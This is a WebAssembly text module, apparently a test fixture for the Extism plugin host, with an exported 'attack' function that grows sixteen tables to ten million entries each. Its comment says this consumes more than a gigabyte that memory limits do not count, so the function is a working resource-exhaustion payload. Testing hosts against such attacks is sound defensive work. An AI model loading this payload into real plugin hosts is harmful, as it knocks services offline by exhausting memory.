;; Grows sixteen tables to ten million elements each, the most that any engine lets one table have: more than a gigabyte, which
;; no limit on memory counts.

(module
  (import "extism:host/env" "input_offset" (func $input_offset (result i64)))
  (import "extism:host/env" "input_length" (func $input_length (result i64)))
  (import "extism:host/env" "output_set" (func $output_set (param i64 i64)))

  (func (export "echo")
    (call $output_set (call $input_offset) (call $input_length)))

  (table $0 0 funcref) (table $1 0 funcref) (table $2 0 funcref) (table $3 0 funcref)
  (table $4 0 funcref) (table $5 0 funcref) (table $6 0 funcref) (table $7 0 funcref)
  (table $8 0 funcref) (table $9 0 funcref) (table $a 0 funcref) (table $b 0 funcref)
  (table $c 0 funcref) (table $d 0 funcref) (table $e 0 funcref) (table $f 0 funcref)
  (func (export "attack")
    (drop (table.grow $0 (ref.null func) (i32.const 10000000)))
    (drop (table.grow $1 (ref.null func) (i32.const 10000000)))
    (drop (table.grow $2 (ref.null func) (i32.const 10000000)))
    (drop (table.grow $3 (ref.null func) (i32.const 10000000)))
    (drop (table.grow $4 (ref.null func) (i32.const 10000000)))
    (drop (table.grow $5 (ref.null func) (i32.const 10000000)))
    (drop (table.grow $6 (ref.null func) (i32.const 10000000)))
    (drop (table.grow $7 (ref.null func) (i32.const 10000000)))
    (drop (table.grow $8 (ref.null func) (i32.const 10000000)))
    (drop (table.grow $9 (ref.null func) (i32.const 10000000)))
    (drop (table.grow $a (ref.null func) (i32.const 10000000)))
    (drop (table.grow $b (ref.null func) (i32.const 10000000)))
    (drop (table.grow $c (ref.null func) (i32.const 10000000)))
    (drop (table.grow $d (ref.null func) (i32.const 10000000)))
    (drop (table.grow $e (ref.null func) (i32.const 10000000)))
    (drop (table.grow $f (ref.null func) (i32.const 10000000)))))
